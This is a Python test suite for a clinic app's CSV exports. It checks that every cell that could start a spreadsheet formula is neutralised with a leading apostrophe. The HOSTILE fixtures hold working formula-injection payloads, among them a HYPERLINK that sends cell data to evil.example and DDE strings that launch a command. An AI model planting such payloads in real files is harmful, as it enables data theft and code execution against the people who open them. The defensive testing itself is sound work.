"""Every CSV the clinic writes is safe to open in a spreadsheet, whatever is in
the database.

A compromised tablet (or a bad clinic list) can put text such as
``=HYPERLINK(...)`` into fields the intake checks may one day miss: the pathway,
the language, a clinic's name. These tests write such values straight into the
database (this is the layer behind the intake checks) and download every CSV
over HTTPS as an administrator would: no cell may start a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import update

from kiosk.clinic.models import AppointmentCount, Submission
from kiosk.reports.csv_cells import safe_cell

pytestmark = [pytest.mark.clinic, pytest.mark.export, pytest.mark.security]
HOSTILE = {
    "pathway": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "language": "+cmd|' /C calc'!A0",
    "clinic": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOSTILE_LIST_CLINIC = "  -2+3+cmd|' /C calc'!A0"
HOSTILE_GROUP = "\t=1+1"


def risky(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    if cell.startswith(("\t", "\r")):
        return True
    stripped = cell.lstrip()
    if not stripped.startswith(("=", "+", "-", "@")):
        return False
    try:
        float(stripped)
    except ValueError:
        return True
    return False


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile_clinic(make_staff_clinic: Callable[..., object]):
    clinic = make_staff_clinic()
    service = clinic.service  # type: ignore[attr-defined]
    today = dt.date.today().isoformat()
    with service.transaction() as db:
        db.execute(update(Submission).values(**HOSTILE))
        db.add(
            AppointmentCount(
                day=today,
                clinic=HOSTILE_LIST_CLINIC,
                imd_quintile=2,
                ethnic_group=HOSTILE_GROUP,
                appointments=3,
            )
        )
    return clinic


@pytest.mark.control("H-27-C7")
def test_every_csv_the_clinic_writes_is_defused(hostile_clinic, tmp_path: Path) -> None:
    admin = hostile_clinic.client("admin")
    month = dt.date.today().isoformat()[:7]
    files = {
        "anonymised": tmp_path / "anonymised.csv",
        "free_text": tmp_path / "free-text.csv",
        "appointments": tmp_path / "appointments.csv",
        "board": tmp_path / "board.csv",
    }
    with admin:
        admin.export_anonymised(files["anonymised"], "trial", "a study of what matters")
        admin.export_anonymised(
            files["free_text"], "trial", "a study of what matters", free_text=True
        )
        admin.export_appointments(files["appointments"])
        admin.board_report(files["board"], "trial", month, month, kind="csv")
    texts = {name: path.read_text(encoding="utf-8") for name, path in files.items()}

    for name, text in texts.items():
        assert [cell for cell in cells(text) if risky(cell)] == [], name
    for name in ("anonymised", "free_text"):
        rows = list(csv.DictReader(io.StringIO(texts[name])))
        assert rows, name
        for column, value in HOSTILE.items():
            assert {row[column] for row in rows} == {"'" + value}, (name, column)
    appointments = list(csv.DictReader(io.StringIO(texts["appointments"])))
    hostile = [row for row in appointments if "calc" in row["clinic"]]
    assert [(row["clinic"], row["ethnic_group"]) for row in hostile] == [
        ("'" + HOSTILE_LIST_CLINIC, "'" + HOSTILE_GROUP)
    ]
    assert hostile[0]["appointments"] == "3"
    # The board report groups the clinic lists' appointments by ethnic group: the
    # hostile group arrives defused, once.
    groups = {row["group"] for row in csv.DictReader(io.StringIO(texts["board"]))}
    assert "'" + HOSTILE_GROUP in groups
    assert not any(cell.startswith("''") for cell in cells(texts["board"]))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+44 7700", "'+44 7700"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t1", "'\t1"),
        ("\r=1", "'\r=1"),
        ("-inf", "'-inf"),
        ("-3", "-3"),
        ("-2.5", "-2.5"),
        ("+1.5e3", "+1.5e3"),
        ("cardiology", "cardiology"),
        ("a=b", "a=b"),
        # any Unicode space before a formula still counts; one before plain text is kept
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\u3000@SUM(A1)", "'\u3000@SUM(A1)"),
        (" cardiology", " cardiology"),
        (-3, -3),
        (2.5, 2.5),
        ("", ""),
    ],
)
def test_one_rule_for_every_cell(value: object, written: object) -> None:
    """Text that would start a formula gets an apostrophe; numbers stay numbers."""
    assert safe_cell(value) == written
